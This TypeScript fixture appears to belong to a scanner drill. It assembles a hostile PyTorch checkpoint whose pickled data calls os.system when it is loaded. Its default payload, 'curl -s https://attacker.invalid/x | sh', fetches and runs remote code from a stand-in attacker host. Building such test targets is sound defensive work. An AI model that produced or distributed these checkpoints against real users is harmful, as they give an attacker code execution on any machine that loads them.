/**
 * A hostile PyTorch checkpoint for the drill, built byte by byte (no Python): a zip laid out
 * as torch.save writes it, whose data.pkl calls os.system when unpickled. It never runs
 * anything here; it only has to be what a real attacker would ship, so the user's scanner
 * (policy `formats`) gets a realistic target.
 */
import { crc32 } from 'node:zlib';

/** Pickle protocol 2: GLOBAL os.system, a one-string tuple, REDUCE - what `__reduce__` exploits emit. */
export function osSystemPickle(cmd: string): Buffer {
  const arg = Buffer.from(cmd, 'utf8');
  const len = Buffer.alloc(4);
  len.writeUInt32LE(arg.length);
  return Buffer.concat([
    Buffer.from([0x80, 2]), // PROTO 2
    Buffer.from('cos\nsystem\n', 'latin1'), // GLOBAL os system
    Buffer.from('X', 'latin1'), len, arg, // BINUNICODE cmd
    Buffer.from([0x85]), // TUPLE1
    Buffer.from('R.', 'latin1'), // REDUCE, STOP
  ]);
}

/** A zip of stored (uncompressed) members, local headers then central directory. */
export function storedZip(members: { name: string; data: Buffer }[]): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const m of members) {
    const name = Buffer.from(m.name, 'utf8');
    const crc = crc32(m.data);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(0x800, 6); // UTF-8 names
    lh.writeUInt32LE(crc, 14);
    lh.writeUInt32LE(m.data.length, 18);
    lh.writeUInt32LE(m.data.length, 22);
    lh.writeUInt16LE(name.length, 26);
    locals.push(lh, name, m.data);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(20, 6);
    ch.writeUInt16LE(0x800, 8);
    ch.writeUInt32LE(crc, 16);
    ch.writeUInt32LE(m.data.length, 20);
    ch.writeUInt32LE(m.data.length, 24);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt32LE(offset, 42);
    central.push(ch, name);
    offset += 30 + name.length + m.data.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** pytorch_model.bin whose data.pkl runs `cmd` on torch.load (weights_only=False). */
export function hostileTorchCheckpoint(cmd = 'curl -s https://attacker.invalid/x | sh'): Buffer {
  return storedZip([
    { name: 'archive/data.pkl', data: osSystemPickle(cmd) },
    { name: 'archive/byteorder', data: Buffer.from('little') },
    { name: 'archive/data/0', data: Buffer.alloc(16, 0x80) },
    { name: 'archive/version', data: Buffer.from('3\n') },
  ]);
}
